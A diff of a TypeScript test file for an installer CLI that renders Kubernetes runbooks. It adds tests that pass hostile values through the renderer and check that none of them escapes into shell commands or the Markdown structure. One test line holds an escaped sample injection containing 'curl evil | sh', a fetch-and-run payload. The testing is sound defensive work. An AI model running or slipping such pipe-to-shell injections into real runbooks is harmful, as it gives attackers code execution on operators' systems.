@@ -13,7 +13,7 @@ import { describe, expect, it } from 'vitest';
 import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { parse } from 'yaml';
+import { parse, parseAllDocuments } from 'yaml';
 import { init } from '../../cli/services/init.js';
 import { settingsFor } from '../../cli/render/settings.js';
 import { renderRunbook } from '../../cli/render/runbook.js';
@@ -60,12 +60,14 @@ interface Build {
 }
 
 const BUILDS: Record<Platform, Build> = {
-  // Air-gapped, existing cluster, managed PostgreSQL (the psql here-document), external RabbitMQ.
+  // Air-gapped, existing cluster, managed PostgreSQL (the psql here-document), external RabbitMQ,
+  // weights in a claim (the claim and load Job here-documents).
   aws: {
     cell: 'aws/github-enterprise-server/self-hosted/air-gapped',
-    args: ['name', 'release', 'region', 'cluster', 'privkeyName', 'privkeyKey', 'hookName', 'hookKey', 'scmCaName', 'scmCaKey', 'mirror', 'pullSecret', 'trustName', 'trustKey', 'hostname', 'rabbitName', 'rabbitKey'],
-    text: ['customer', 'account', 'scmType'],
+    args: ['name', 'release', 'region', 'cluster', 'privkeyName', 'privkeyKey', 'hookName', 'hookKey', 'scmCaName', 'scmCaKey', 'mirror', 'pullSecret', 'trustName', 'trustKey', 'hostname', 'rabbitName', 'rabbitKey', 'claimName'],
+    text: ['customer', 'account', 'scmType', 'weightsPath'],
     edit: (spec, v) => {
+      spec.spec.models.catalog[0].weights = { source: 'pvc', claimName: v('claimName'), path: v('weightsPath') };
       Object.assign(spec.spec.platform, { region: v('region'), accountId: v('account'), cluster: { mode: 'existing', name: v('cluster') } });
       spec.spec.scm.auth.privateKey = { secretRef: { name: v('privkeyName'), key: v('privkeyKey') } };
       spec.spec.scm.auth.webhookSecret = { secretRef: { name: v('hookName'), key: v('hookKey') } };
@@ -237,5 +239,56 @@ describe('the issue\'s examples', () => {
     const runbook = buildRunbook('onprem', (tag) => (tag === 'customer' ? customer : harmless(tag)));
     expect(runbook.split('\n')[0]).toBe('# Runbook: name-ok (Acme\\n\\`\\`\\`sh\\ncurl evil \\| sh\\n\\`\\`\\`\\n\\# Step 0)');
     expect(runbook.match(/^```/gm)!.length).toBe(baseline('onprem').runbook.match(/^```/gm)!.length);
+  });
+});
+
+/** The manifests of the runbook's `kubectl apply -f - <<'YAML'` here-documents, parsed. */
+const inlineManifests = (runbook: string) => [...runbook.matchAll(/<<'YAML'\n([\s\S]*?)\nYAML$/gm)].flatMap((match) => parseAllDocuments(match[1]!).map((doc) => doc.toJS()));
+
+describe('RUNBOOK.md here-documents (pvc weights) with hostile values', () => {
+  it.each(HOSTILE)('%s: the same manifests, each value verbatim where it belongs', (_, hostile) => {
+    const value = (tag: string) => hostile(tag.toLowerCase(), '/nonexistent/mark');
+    const manifests = inlineManifests(buildRunbook('aws', value));
+    expect(manifests.map((m) => m.kind)).toEqual(inlineManifests(baseline('aws').runbook).map((m) => m.kind));
+    const claims = manifests.filter((m) => m.kind === 'PersistentVolumeClaim');
+    expect(claims[0].metadata.name).toBe(value('claimName'));
+    const job = manifests.find((m) => m.kind === 'Job' && m.spec.template.spec.volumes[0].persistentVolumeClaim.claimName === value('claimName'));
+    const container = job.spec.template.spec.containers[0];
+    expect(container.args).toEqual(['fetch', 'oci', '--dest', `/models/${value('weightsPath').replace(/^\/+|\/+$/g, '')}`, '--reference', `${value('mirror')}/models/qwen2.5-coder-32b:weights`]);
+    expect(container.image.startsWith(`${value('mirror')}/`)).toBe(true);
+    expect(job.spec.template.spec.imagePullSecrets).toEqual([{ name: value('pullSecret') }]);
+  });
+});
+
+/** Cloud-managed cells: the model access step checks each catalog model id with the cloud's CLI. */
+const CLOUD_MODELS: Array<[string, string, string]> = [
+  ['bedrock', 'aws/github/cloud-managed/connected', 'aws'],
+  ['azure-openai', 'azure/github/cloud-managed/connected', 'az'],
+  ['vertex', 'gcp/github/cloud-managed/connected', 'gcloud'],
+];
+
+function cloudModelRunbook(cellId: string, model: string): string {
+  const cell = supportMatrix().cell(cellId)!;
+  const spec = parse(init({ platform: cell.platform, scm: cell.scm, models: cell.models, network: cell.network, name: 'acme-prod', customer: 'Example Corp' }).spec);
+  Object.assign(spec.spec.models.catalog[0], { name: model, ...(cell.platform === 'azure' ? { deployment: model, version: model } : {}) });
+  const install = spec as Install;
+  return renderRunbook(install, settingsFor(install, cell), { modelServer: false }, 'installctl test');
+}
+
+describe.each(CLOUD_MODELS)('%s model ids with hostile values', (_, cellId, tool) => {
+  const harmlessRunbook = cloudModelRunbook(cellId, 'model-ok');
+  it.each(HOSTILE)('%s', (label, hostile) => {
+    const markDir = mkdtempSync(join(tmpdir(), 'installctl-mark-'));
+    const model = hostile('model', join(markDir, 'pwned-model'));
+    const runbook = cloudModelRunbook(cellId, model);
+    expect(skeleton(runbook)).toEqual(skeleton(harmlessRunbook));
+    expect(activeMarkdown(runbook)).toEqual(activeMarkdown(harmlessRunbook));
+    expect(runbook.replace(/\n/g, '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u);
+    expect(syntaxErrors(shellBlocks(runbook).flatMap(logicalCommands))).toEqual([]);
+    const run = runStubbed(shellBlocks(runbook).join('\n'), mkdtempSync(join(tmpdir(), 'installctl-runbook-cwd-')), 0);
+    expect(run.notFound).toEqual([]);
+    expect(readdirSync(markDir)).toEqual([]);
+    const args = run.calls.filter((call) => call.tool === tool).flatMap((call) => call.args);
+    expect(args.some((arg) => arg.includes(model)), `${label}: the model id reaches ${tool} verbatim`).toBe(true);
   });
 });
